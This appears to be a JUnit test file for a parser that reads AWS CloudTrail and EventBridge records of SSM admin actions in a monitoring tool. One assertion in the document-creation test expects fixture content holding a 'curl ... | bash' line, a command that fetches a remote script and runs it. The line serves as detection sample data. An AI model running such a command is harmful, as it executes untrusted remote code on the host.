package io.runwatch.core.ingest.aws;

import static org.assertj.core.api.Assertions.assertThat;

import io.runwatch.core.ingest.Collected;
import io.runwatch.core.ingest.ErrorKind;
import io.runwatch.core.ingest.Fixtures;
import io.runwatch.core.model.AdminCommand;
import io.runwatch.core.model.AgentStatusEvent.StatusKind;
import io.runwatch.core.model.Operation;
import io.runwatch.core.model.Outcome;
import io.runwatch.core.model.PrincipalKind;
import io.runwatch.core.model.VmRef;
import java.io.IOException;
import java.nio.file.Files;
import java.time.Instant;
import org.junit.jupiter.api.Test;

class CloudTrailParserTest {
  private final CloudTrailParser parser = new CloudTrailParser();

  private static AdminCommand only(String fixture) {
    Collected c = Collected.ingestFile(Fixtures.event("aws", fixture));
    assertThat(c.errors).isEmpty();
    assertThat(c.commands).hasSize(1);
    return c.commands.get(0);
  }

  @Test
  void sendCommandFromPantherSample() {
    AdminCommand c = only("sendcommand-three-instances-panther.json");
    assertThat(c.operation()).isEqualTo(Operation.SEND_COMMAND);
    assertThat(c.account()).isEqualTo("111122223333");
    assertThat(c.commandId()).isEqualTo("f49a1fe5-d12b-4ac0-98bc-0e4bd83d70c0");
    assertThat(c.targets())
        .extracting(VmRef::id)
        .containsExactly("i-006e4c07b5fba8ad2", "i-01bf673280e708b0d", "i-020001cca1a2f2628");
    assertThat(c.targetCount()).isEqualTo(3);
    assertThat(c.document()).isEqualTo("AWS-RunShellScript");
    assertThat(c.content()).as("CloudTrail hides SendCommand parameters").isNull();
    // Panther rewrites eventTime with a space; it is still UTC.
    assertThat(c.time()).isEqualTo(Instant.parse("2025-02-19T16:32:39Z"));
    assertThat(c.principal().kind())
        .as("IAM Identity Center session")
        .isEqualTo(PrincipalKind.HUMAN);
    assertThat(c.principal().issuer())
        .endsWith(":role/aws-reserved/sso.amazonaws.com/us-west-2/SampleRole");
  }

  @Test
  void deniedAttemptIsKeptWithItsErrorCode() {
    AdminCommand c = only("sendcommand-denied-iam-user.json");
    assertThat(c.outcome()).isEqualTo(Outcome.DENIED);
    assertThat(c.errorCode()).isEqualTo("AccessDenied");
    assertThat(c.commandId()).as("responseElements is null").isNull();
    assertThat(c.principal().kind()).isEqualTo(PrincipalKind.HUMAN);
    assertThat(c.principal().credentialId()).isEqualTo("AKIAIOSFODNN7EXAMPLE");
  }

  @Test
  void instanceProfileSessionIsAVmIssuingCommands() {
    AdminCommand c = only("sendcommand-instance-role-tag-targets.json");
    assertThat(c.principal().kind()).isEqualTo(PrincipalKind.INSTANCE_IDENTITY);
    assertThat(c.targets()).isEmpty();
    assertThat(c.targetSelector()).isEqualTo("tag:Env=prod,staging");
    assertThat(c.reach()).isEqualTo(40);
  }

  @Test
  void serviceInvokedCallsAreTheCloudService() {
    assertThat(only("sendcommand-maintenance-window-service.json").principal().kind())
        .isEqualTo(PrincipalKind.CLOUD_SERVICE);
  }

  @Test
  void eventBridgeEnvelopeGivesTheSameCommandAsTheBareRecord() {
    AdminCommand wrapped = only("eventbridge-api-call-sendcommand.json");
    AdminCommand bare = only("sendcommand-three-instances-panther.json");
    assertThat(wrapped.commandId()).isEqualTo(bare.commandId());
    assertThat(wrapped.principal()).isEqualTo(bare.principal());
    assertThat(wrapped.targets()).isEqualTo(bare.targets());
  }

  @Test
  void startSessionsAmongIrrelevantTrafficAreFoundAndTheRestCounted() {
    Collected c = Collected.ingestFile(Fixtures.event("aws", "startsession-stratus-records.json"));
    assertThat(c.commands)
        .extracting(AdminCommand::operation)
        .containsOnly(Operation.START_SESSION);
    assertThat(c.commands).extracting(x -> x.targets().get(0).id()).doesNotHaveDuplicates();
    assertThat(c.commands.get(0).commandId()).startsWith("christophe-");
    assertThat(c.stats.skipped()).isEqualTo(26);
    assertThat(c.accountsForEveryRecord()).isTrue();
  }

  @Test
  void stagingAndSchedulingOperations() {
    AdminCommand doc = only("createdocument-inline-content.json");
    assertThat(doc.operation()).isEqualTo(Operation.CREATE_DOCUMENT);
    assertThat(doc.content()).contains("curl -s http://203.0.113.9/d.sh | bash");
    assertThat(doc.contentSha256()).hasSize(64);
    AdminCommand assoc = only("createassociation-ci-role.json");
    assertThat(assoc.commandId()).isEqualTo("8c9d0e1f-2a3b-4c5d-8e6f-7a8b9c0d1e2f");
    assertThat(assoc.targetSelector()).isEqualTo("tag:Role=batch");
    assertThat(assoc.principal().kind()).isEqualTo(PrincipalKind.ROLE_SESSION);
    assertThat(only("resumesession-sso-admin.json").commandId())
        .isEqualTo("alice@example.com-0a1b2c3d4e5f67890");
  }

  @Test
  void ssmStatusEventsBecomeAgentStatus() {
    Collected c =
        Collected.ingestFile(
            Fixtures.event("aws", "eventbridge-command-invocation-status-change-awsdocs.json"));
    assertThat(c.statuses).hasSize(1);
    var s = c.statuses.get(0);
    assertThat(s.kind()).isEqualTo(StatusKind.COMMAND_INVOCATION);
    assertThat(s.commandId()).isEqualTo("e8d3c0e4-71f7-4491-898f-c9b35bee5f3b");
    assertThat(s.instanceId()).as("detail wins over resources").isEqualTo("i-9bb89e2b");
    assertThat(s.status()).isEqualTo("Success");
    Collected cmd =
        Collected.ingestFile(
            Fixtures.event("aws", "eventbridge-command-status-change-awsdocs.json"));
    assertThat(cmd.statuses.get(0).parameters())
        .containsEntry("commands", java.util.List.of("date"));
  }

  @Test
  void oddlyTypedNamesAreSkippedNotCrashed() {
    for (String json :
        new String[] {
          "{\"eventSource\":\"ssm.amazonaws.com\",\"eventName\":null,\"x\":\"SendCommand\"}",
          "{\"eventSource\":\"ssm.amazonaws.com\",\"eventName\":{\"a\":\"SendCommand\"}}",
          "{\"source\":\"aws.ssm\",\"detail-type\":null,\"detail\":{},\"x\":\"SendCommand\"}"
        }) {
      Collected c = Collected.ingestParsingEveryRecord("odd", json.getBytes());
      assertThat(c.errors).as(json).isEmpty();
      assertThat(c.stats.skipped()).as(json).isEqualTo(1);
    }
  }

  @Test
  void missingEventTimeIsATypedErrorNamingTheField() {
    Collected c =
        Collected.ingest(
            "{\"eventSource\":\"ssm.amazonaws.com\",\"eventName\":\"SendCommand\",\"eventID\":\"x\"}");
    assertThat(c.errors)
        .singleElement()
        .satisfies(
            e -> {
              assertThat(e.kind()).isEqualTo(ErrorKind.MISSING_FIELD);
              assertThat(e.field()).isEqualTo("eventTime");
              assertThat(e.where().index()).isZero();
            });
  }

  @Test
  void prefilterPassesEveryRelevantFixtureAndRejectsOtherTraffic() throws IOException {
    for (String f :
        new String[] {
          "sendcommand-three-instances-panther.json",
          "eventbridge-api-call-sendcommand.json",
          "eventbridge-maintenancewindow-state-change-awsdocs.json",
          "resumesession-sso-admin.json"
        }) {
      assertThat(parser.mayBeRelevant(Files.readString(Fixtures.event("aws", f)))).as(f).isTrue();
    }
    assertThat(
            parser.mayBeRelevant(
                "{\"eventSource\":\"s3.amazonaws.com\",\"eventName\":\"GetObject\"}"))
        .isFalse();
  }

  @Test
  void fieldTableCoversTheStableOutputFields() {
    assertThat(parser.fieldTable())
        .extracting(m -> m.modelField())
        .contains(
            "account",
            "operation",
            "principal.id",
            "principal.kind",
            "sourceIp",
            "userAgent",
            "targets",
            "targetCount",
            "commandId",
            "document",
            "outcome",
            "time",
            "eventId");
  }
}
